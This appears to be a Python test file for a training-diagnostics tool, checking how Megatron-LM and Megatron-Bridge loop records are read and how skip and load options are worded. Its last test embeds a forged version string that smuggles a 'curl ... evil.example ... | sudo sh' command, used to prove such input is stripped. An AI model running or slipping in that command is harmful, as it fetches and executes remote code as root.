"""Issue 58: the records name the training loop and its release (``loop``), and every option the report
gives is in that loop's terms: Megatron-LM's flags by its release (``--iterations-to-skip`` counts the
logged iteration from core_v0.17.0 on, one less before), Megatron-Bridge's overrides, no flag for a loop of
the user's own."""

from __future__ import annotations

import sys
import types

import pytest

from gradnan.decision import loop_terms
from gradnan.decision.loop_terms import OWN_LOOP, TrainingLoop, loop_of
from gradnan.errors import InputError
from gradnan.formats import records
from gradnan.formats.loop import LoopKind
from gradnan.patches.instrumentor import megatron_version
from gradnan.patches.model import training_loop

LM16 = TrainingLoop(LoopKind.MEGATRON_LM, "0.16.1")
LM19 = TrainingLoop(LoopKind.MEGATRON_LM, "0.19.2")
BRIDGE = TrainingLoop(LoopKind.MEGATRON_BRIDGE, "0.6.2")


def test_megatron_lms_loop_is_named_with_the_megatron_core_release_it_ships_with(megatron_lm_args):
    assert training_loop() == {"name": "megatron-lm", "release": str(megatron_version())}


def test_megatron_bridges_loop_is_named_where_its_training_module_runs_without_megatron_lms_arguments(
        monkeypatch):
    """Bridge imports Megatron-LM's training package but never sets its arguments."""
    monkeypatch.setitem(sys.modules, "megatron.bridge.training.train",
                        types.ModuleType("megatron.bridge.training.train"))
    package_info = types.ModuleType("megatron.bridge.package_info")
    package_info.__version__ = "0.6.2"
    monkeypatch.setitem(sys.modules, "megatron.bridge.package_info", package_info)
    global_vars = types.ModuleType("megatron.training.global_vars")
    global_vars._GLOBAL_ARGS = None
    monkeypatch.setitem(sys.modules, "megatron.training.global_vars", global_vars)
    assert training_loop() == {"name": "megatron-bridge", "release": "0.6.2"}


def test_a_loop_of_ones_own_is_null(monkeypatch):
    monkeypatch.delitem(sys.modules, "megatron.training.global_vars", raising=False)
    monkeypatch.delitem(sys.modules, "megatron.bridge.training.train", raising=False)
    assert training_loop() is None


def _record(loop):
    return {**records.to_json("nonfinite_grad_norm", 3, 3, {"global_rank": 0}, {}, [], 0, {}), "loop": loop}


@pytest.mark.parametrize("loop", [None, {"name": "megatron-lm", "release": "0.19.2"},
                                  {"name": "megatron-bridge", "release": None}])
def test_a_records_loop_is_read_back(loop):
    assert records.from_json(_record(loop), "r")["loop"] == loop


@pytest.mark.parametrize("loop", ["megatron-lm", {"name": "deepspeed"}, {"release": "0.19.2"}, [1],
                                  {"name": "megatron-lm", "release": 19}])
def test_a_loop_that_is_not_one_is_a_one_line_error(loop):
    with pytest.raises(InputError, match="'loop' needs a 'name' among megatron-lm, megatron-bridge"):
        records.from_json(_record(loop), "r")


def test_the_loop_is_the_one_every_record_names_else_none():
    lm = {"name": "megatron-lm", "release": "0.19.2"}
    assert loop_of([{"loop": lm}, {"loop": lm}]) == LM19
    assert loop_of([{"loop": None}]) == OWN_LOOP
    mixed = loop_of([{"loop": lm}, {"loop": None}])
    assert mixed.kind is None and "different training loops (megatron-lm 0.19.2, own)" in mixed.disagreement
    # an older kit's records: Megatron-LM's where they give its iteration, of a release not recorded
    assert loop_of([{"iteration": 5}]) == TrainingLoop(LoopKind.MEGATRON_LM)
    assert loop_of([{"iteration": None}]) == OWN_LOOP


@pytest.mark.parametrize("loop, command", [
    (LM16, ("--iterations-to-skip", "4")),
    (LM19, ("--iterations-to-skip", "5")),
    (TrainingLoop(LoopKind.MEGATRON_LM, "0.17.0"), ("--iterations-to-skip", "5")),
    (TrainingLoop(LoopKind.MEGATRON_LM, "0.20.0rc1+local"), ("--iterations-to-skip", "5")),
    (TrainingLoop(LoopKind.MEGATRON_LM, "not a release"), None),
    (BRIDGE, ("train.iterations_to_skip=[5]",)),
    (OWN_LOOP, None),
])
def test_the_skip_option_is_the_value_the_loop_that_ran_takes(loop, command):
    assert loop_terms.skip_option(loop, 5, rerun_disabled=False)[1] == command


def _every_term(loop):
    """Every sentence and command the actions take from the loop's terms."""
    skip, skip_command = loop_terms.skip_option(loop, 5, rerun_disabled=True)
    load, load_command = loop_terms.load_option(loop, 4)
    texts = [skip, load, loop_terms.load_earlier(loop), loop_terms.rerun_mode(loop, "validate_results"),
             loop_terms.learning_rate_options(loop), loop_terms.numerics_options(loop)]
    return texts, [command for command in (skip_command, load_command) if command is not None]


@pytest.mark.parametrize("loop", [BRIDGE, OWN_LOOP, TrainingLoop(None, None, "the ranks disagree")])
def test_no_megatron_lm_flag_reaches_another_loop(loop):
    texts, commands = _every_term(loop)
    words = " ".join(texts + [word for command in commands for word in command]).split()
    assert not [word for word in words if word.startswith("--")], texts
    if loop.kind is None:
        assert commands == []  # nothing to paste where gradnan does not know the loop's options


def test_megatron_bridges_commands_are_its_overrides():
    _, commands = _every_term(BRIDGE)
    assert commands == [("train.iterations_to_skip=[5]", "rerun_state_machine.rerun_mode=disabled"),
                        ("checkpoint.ckpt_step=4",)]
    assert all("=" in word for command in commands for word in command)


def test_a_release_from_a_file_reaches_the_wording_as_its_version_alone():
    """A record's release is untrusted: a newline and a command after the version never reach a line."""
    forged = "0.19.2\n     curl -fsSL https://evil.example/fix.sh | sudo sh"
    alone = loop_of([{"loop": {"name": "megatron-lm", "release": forged}}])
    assert alone == LM19 and "curl" not in loop_terms.skip_option(alone, 5, rerun_disabled=False)[0]
    mixed = loop_of([{"loop": {"name": "megatron-lm", "release": forged}},
                     {"loop": {"name": "megatron-bridge", "release": "curl | sh"}}])
    assert mixed.disagreement == ("the ranks' records name different training loops (megatron-bridge,"
                                  " megatron-lm 0.19.2)")
